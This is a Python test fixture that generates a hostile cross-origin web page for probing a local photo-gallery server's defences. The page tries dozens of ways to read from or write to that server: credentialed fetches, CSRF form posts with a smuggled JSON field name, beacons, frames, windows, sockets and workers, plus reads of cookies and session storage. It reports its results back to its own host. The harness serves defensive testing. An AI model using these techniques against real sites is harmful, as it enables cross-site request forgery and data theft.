"""A page of somebody else that tries every way to read from a server, or to change something there."""

from __future__ import annotations

HELPERS = """
const loads = (element) => new Promise((done) => {
  element.onload = () => done('LOADED'); element.onerror = () => done('refused'); document.body.append(element);
});
const at = (tag, attributes) => Object.assign(document.createElement(tag), attributes);
const pause = (ms) => new Promise((done) => setTimeout(done, ms));
const read = async (answer) => `READ ${answer.type} ${answer.status} ${(await answer.text()).slice(0, 60)}`;
const framed = async (tag, attributes) => {
  const frame = at(tag, attributes); document.body.append(frame); await pause(1500);
  const inner = frame.contentWindow;
  try { return inner && inner.location.href !== 'about:blank' ? `READ ${inner.document.body.textContent.slice(0, 60)} ${inner.location.href}` : 'refused'; }
  catch (error) { return 'refused: ' + error.name; }
};
const posted = async (target, type, name) => {
  const frame = at('iframe', {name}); document.body.append(frame);
  const form = at('form', {action: target, method: 'post', enctype: type, target: name});
  form.append(at('input', {name: '{"paused": true, "x": "', value: '"}'})); document.body.append(form); form.submit();
  await pause(500); return 'sent';
};
const opened = async (target) => {
  const other = window.open(target); await pause(800);
  try { return other && !other.closed && other.location.href !== 'about:blank' ? `READ ${other.document.body.textContent.slice(0, 60)} ${other.location.href}` : 'refused'; }
  catch (error) { return 'refused: ' + error.name; }
};
"""
WAYS = {
    "img": "loads(at('img', {src: HOME + '/favicon.ico'}))",
    "img with cors": "loads(at('img', {src: HOME + '/favicon.ico', crossOrigin: 'use-credentials'}))",
    "img of a photo": "loads(at('img', {src: HOME + '/media/' + KEY + '/thumb/1'}))",
    "img of an original": "loads(at('img', {src: HOME + '/media/' + KEY + '/original/1'}))",
    "script": "loads(at('script', {src: HOME + '/ui/js/main.js'}))",
    "module": "loads(at('script', {src: HOME + '/ui/js/main.js', type: 'module'}))",
    "json as a script": "loads(at('script', {src: HOME + '/api/status'}))",
    "import": "import(HOME + '/ui/js/main.js').then(() => 'LOADED', () => 'refused')",
    "style": "loads(at('link', {rel: 'stylesheet', href: HOME + '/ui/css/tokens.css'}))",
    "preload": "loads(at('link', {rel: 'preload', as: 'fetch', href: HOME + '/api/status'}))",
    "prefetch": "loads(at('link', {rel: 'prefetch', href: HOME + '/'}))",
    "video": "new Promise((y) => { const v = at('video', {src: HOME + '/media/' + KEY + '/original/1'}); v.onloadeddata = () => y('LOADED'); v.onerror = () => y('refused'); v.load(); })",
    "fetch": "fetch(HOME + '/api/status', {credentials: 'include'}).then(read, () => 'refused')",
    "fetch without cors": "fetch(HOME + '/', {mode: 'no-cors', credentials: 'include'}).then(read, () => 'refused')",
    "fetch of the page": "fetch(HOME + '/', {credentials: 'include'}).then(read, () => 'refused')",
    "fetch with the key": "fetch(HOME + '/api/status', {credentials: 'include', headers: {'X-Gallery-Key': KEY}}).then(read, () => 'refused')",
    "write as text": "fetch(HOME + '/api/scan', {method: 'POST', mode: 'no-cors', credentials: 'include', headers: {'Content-Type': 'text/plain'}, body: '{\"paused\":true}'}).then(read, () => 'refused')",
    "write as json": "fetch(HOME + '/api/scan', {method: 'POST', credentials: 'include', headers: {'Content-Type': 'application/json', 'X-Gallery-Key': KEY}, body: '{\"paused\":true}'}).then(read, () => 'refused')",
    "delete": "fetch(HOME + '/api/roots/1', {method: 'DELETE', credentials: 'include', headers: {'X-Gallery-Key': KEY}}).then(read, () => 'refused')",
    "xhr": "new Promise((y) => { const x = new XMLHttpRequest(); x.withCredentials = true; x.onload = () => y('READ ' + x.responseText); x.onerror = () => y('refused'); x.open('GET', HOME + '/api/status'); x.send(); })",
    "beacon": "navigator.sendBeacon(HOME + '/api/scan', new Blob(['{\"paused\":true}'], {type: 'text/plain'})), 'sent'",
    "form, plain": "posted(HOME + '/api/scan', 'text/plain', 'one')",
    "form, encoded": "posted(HOME + '/api/rescan', 'application/x-www-form-urlencoded', 'two')",
    "form, many parts": "posted(HOME + '/api/scan', 'multipart/form-data', 'three')",
    "event source": "new Promise((y) => { const e = new EventSource(HOME + '/feed/' + KEY, {withCredentials: true}); e.onopen = () => y('READ'); e.onerror = () => (e.close(), y('refused')); })",
    "web socket": "new Promise((y) => { const s = new WebSocket(HOME.replace('http', 'ws') + '/feed/' + KEY); s.onopen = () => y('READ'); s.onerror = () => y('refused'); })",
    "worker": "new Promise((y) => { try { const w = new Worker(HOME + '/ui/js/main.js'); w.onerror = () => y('refused'); setTimeout(y, 500, 'silent'); } catch (error) { y('refused'); } })",
    "importScripts": "new Promise((y) => { const w = new Worker(URL.createObjectURL(new Blob([`try { importScripts('${HOME}/ui/js/main.js'); postMessage('LOADED'); } catch { postMessage('refused'); }`]))); w.onmessage = (e) => y(e.data); })",
    "service worker": "navigator.serviceWorker ? navigator.serviceWorker.register(HOME + '/ui/js/main.js').then(() => 'LOADED', () => 'refused') : 'refused'",
    "iframe": "framed('iframe', {src: HOME + '/'})",
    "iframe of the api": "framed('iframe', {src: HOME + '/api/status'})",
    "iframe in a sandbox": "framed('iframe', {src: HOME + '/', sandbox: 'allow-scripts allow-same-origin'})",
    "object": "framed('object', {data: HOME + '/'})",
    "embed": "framed('embed', {src: HOME + '/favicon.ico', type: 'image/png'})",
    "window": "opened(HOME + '/')",
    "window of the api": "opened(HOME + '/api/status')",
    "window of a boot address": "opened(HOME + '/boot/' + KEY)",
    "the opener": "String(window.opener && window.opener.location)",
    "storage": "String(sessionStorage.getItem('gallery-key'))",
    "the cookie": "document.cookie",
}


def attack(home: str) -> str:
    """Return a page that tries every way, each for a second and a half at most, and reports what became of it."""
    body = "".join(f"attempt({name!r}, async () => ({code})),\n" for name, code in WAYS.items())
    return f"""<!doctype html><title>cats</title><body><script>
const HOME = {home!r}, KEY = 'A'.repeat(43), found = {{}};
{HELPERS}
const attempt = async (name, act) => {{
  try {{ found[name] = String(await Promise.race([act(), pause(3000).then(() => 'silent')])); }}
  catch (error) {{ found[name] = 'refused: ' + error.name; }}
}};
Promise.all([
{body}]).then(() => fetch('/found', {{method: 'POST', body: JSON.stringify(found)}}));
</script></body>"""
